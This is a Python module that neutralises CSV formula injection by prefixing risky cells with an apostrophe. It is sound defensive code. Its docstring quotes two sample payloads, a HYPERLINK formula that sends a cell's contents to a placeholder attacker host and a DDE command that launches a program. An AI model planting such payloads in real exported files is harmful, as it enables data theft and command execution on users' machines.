"""CSV files a spreadsheet opens safely: no cell fanbot writes is read as a formula.

A member's name such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` or
`+cmd|' /C calc'!A0` would be a live formula in Excel or LibreOffice. As OWASP's "CSV
Injection" advises, a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return gets a leading `'`, which a spreadsheet shows as text. A plain number (`-5`, `-0.50`)
is left as it is: it is read as that number, never as a formula, and a numeric column stays
exact. Every CSV fanbot writes goes through `SafeWriter`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet should read it: text that could start a formula quoted
    with `'`; numbers and every other value unchanged."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        self._writer.writerows([safe_cell(value) for value in row] for row in rows)
